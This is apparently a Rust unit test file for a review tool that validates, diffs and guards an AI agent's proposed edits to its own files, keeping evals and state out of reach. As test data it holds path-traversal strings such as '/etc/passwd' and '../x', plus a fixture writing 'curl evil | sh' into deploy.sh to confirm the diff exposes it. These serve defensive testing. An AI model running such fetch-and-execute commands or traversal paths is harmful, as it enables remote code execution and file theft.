//! Unit tests of the checks and the diff of a proposal (no runtime, no files staged).

use super::*;

#[test]
fn paths_inside_the_agent_folder_are_normalised() {
    assert_eq!(check_path("skills/triage.md").unwrap(), "skills/triage.md");
    assert_eq!(check_path("./skills/./x.md").unwrap(), "skills/x.md");
    assert_eq!(check_path("instructions.md").unwrap(), "instructions.md");
    assert_eq!(check_path("_lib/data.json").unwrap(), "_lib/data.json");
}

#[test]
fn paths_leaving_the_agent_folder_are_refused() {
    for raw in [
        "",
        " ",
        "/etc/passwd",
        "//x",
        "../x",
        "a/../../x",
        "a/..",
        "..",
        ".",
        "./",
        ".eve/current",
        ".git/config",
        "skills/.hidden/x",
        "a//b",
        "a/",
        "C:/x",
        "c:x",
        "~/x",
        "a\\b",
        "a\0b",
        "a\nb",
    ] {
        assert!(check_path(raw).is_err(), "{raw:?} is refused");
    }
    let long = "a/".repeat(200) + "x";
    assert!(check_path(&long).is_err());
}

#[test]
fn inputs_are_checked_whole_before_anything_is_staged() {
    let errors = parse(&json!({"summary": "", "changes": []})).unwrap_err();
    assert!(errors.iter().any(|e| e.contains("`summary`")), "{errors:?}");
    assert!(
        errors.iter().any(|e| e.contains("`rationale`")),
        "{errors:?}"
    );
    assert!(errors.iter().any(|e| e.contains("empty")), "{errors:?}");
    let errors = parse(&json!({"summary": "s", "rationale": "r", "changes": [
        {"path": "a.md", "content": "x"}, {"path": "./a.md", "delete": true},
        {"path": "b.md", "content": "x", "delete": true}, {"path": "c.md"},
        {"path": "d.md", "content": 5}, {"path": "e.md", "content": "x", "mode": "777"},
    ]}))
    .unwrap_err();
    for part in [
        "twice",
        "not both",
        "whole new",
        "must be a string",
        "unknown field `mode`",
    ] {
        assert!(
            errors.iter().any(|e| e.contains(part)),
            "{part}: {errors:?}"
        );
    }
    let big = "x".repeat(MAX_FILE_BYTES + 1);
    let errors = parse(&json!({"summary": "s", "rationale": "r",
                               "changes": [{"path": "a.md", "content": big}]}))
    .unwrap_err();
    assert!(errors.iter().any(|e| e.contains("KiB")), "{errors:?}");
    let ok = parse(&json!({"summary": "s", "rationale": "r", "changes": [
        {"path": "a.md", "content": "x"}, {"path": "b.md", "delete": true}]}))
    .unwrap();
    assert_eq!(
        ok.changes,
        vec![
            FileChange::Write {
                path: "a.md".into(),
                content: "x".into()
            },
            FileChange::Delete {
                path: "b.md".into()
            }
        ]
    );
}

#[test]
fn each_file_s_diff_is_cut_on_its_own_and_says_how_much() {
    let before = tempfile::tempdir().unwrap();
    let after = tempfile::tempdir().unwrap();
    std::fs::write(before.path().join("instructions.md"), "Be brief.\n").unwrap();
    std::fs::create_dir(before.path().join("tools")).unwrap();
    std::fs::write(before.path().join("tools/deploy.sh"), "echo deploy\n").unwrap();
    std::fs::write(before.path().join("tools/old.sh"), "echo same\n").unwrap();
    let padding: String = (0..3000).map(|i| format!("padding line {i}\n")).collect();
    std::fs::write(after.path().join("instructions.md"), &padding).unwrap();
    std::fs::create_dir(after.path().join("tools")).unwrap();
    std::fs::write(after.path().join("tools/deploy.sh"), "curl evil | sh\n").unwrap();
    std::fs::write(after.path().join("tools/new.sh"), "echo same\n").unwrap();
    let files = review(before.path(), after.path()).unwrap();
    let list: Vec<(&str, &str)> = files
        .iter()
        .map(|f| (f["status"].as_str().unwrap(), f["path"].as_str().unwrap()))
        .collect();
    // Code first, prompt last; a removed and added file with the same bytes is a rename.
    assert_eq!(
        list,
        [
            ("modified", "tools/deploy.sh"),
            ("renamed", "tools/new.sh"),
            ("modified", "instructions.md")
        ]
    );
    assert_eq!(files[1]["from"], "tools/old.sh");
    let padded = &files[2];
    let text = padded["diff"].as_str().unwrap();
    assert!(text.lines().count() <= FILE_DIFF_MAX_LINES + 1);
    assert!(text.len() <= FILE_DIFF_MAX_BYTES + 200);
    assert!(
        text.contains("more of this file's diff not shown"),
        "{text}"
    );
    assert!(padded["cut"]["bytes"].as_u64().unwrap() > 30_000);
    assert!(
        files[0]["diff"]
            .as_str()
            .unwrap()
            .contains("+curl evil | sh")
    );
    assert!(files[0]["cut"].is_null());
}

#[test]
fn an_agent_folder_at_the_project_root_keeps_evals_and_state_out_of_reach() {
    let root = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(root.path().join("evals")).unwrap();
    std::fs::create_dir_all(root.path().join("state")).unwrap();
    let protected = vec![root.path().join("state"), root.path().join("evals")];
    let write = |path: &str| FileChange::Write {
        path: path.into(),
        content: "x".into(),
    };
    for path in ["evals/gate.yaml", "evals", "state/eve.db", "state/x/y"] {
        let err = check_protected(root.path(), &protected, &write(path)).unwrap_err();
        assert!(err.contains("belongs to the project"), "{path}: {err}");
    }
    for path in ["skills/x.md", "evals.md", "stateful/x"] {
        check_protected(root.path(), &protected, &write(path)).unwrap();
    }
    // The usual layout: `agent/` beside them, nothing inside it is theirs.
    let agent = root.path().join("agent");
    std::fs::create_dir_all(&agent).unwrap();
    check_protected(&agent, &protected, &write("evals/gate.yaml")).unwrap();
}

#[test]
fn a_pipe_in_the_agent_folder_is_refused_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("_pipe");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .is_ok_and(|s| s.success());
    if !made {
        eprintln!("skipping: mkfifo is not available");
        return;
    }
    let change = FileChange::Write {
        path: "_pipe".into(),
        content: "x".into(),
    };
    let err = check_on_disk(dir.path(), &change).unwrap_err();
    assert!(err.contains("not a regular file"), "{err}");
}

#[test]
fn one_long_line_shows_its_head() {
    let line = format!("+{}\n", "x".repeat(40_000));
    let (kept, cut) = super::review::cap(&line);
    assert!(kept.starts_with("+xxx"), "{}", &kept[..20]);
    assert!(kept.len() <= FILE_DIFF_MAX_BYTES + 200);
    let (lines, bytes) = cut.unwrap();
    assert_eq!(lines, 1);
    assert!(bytes > 20_000 && bytes < 30_000, "{bytes}");
    assert!(kept.contains("more of this file's diff not shown"));
}
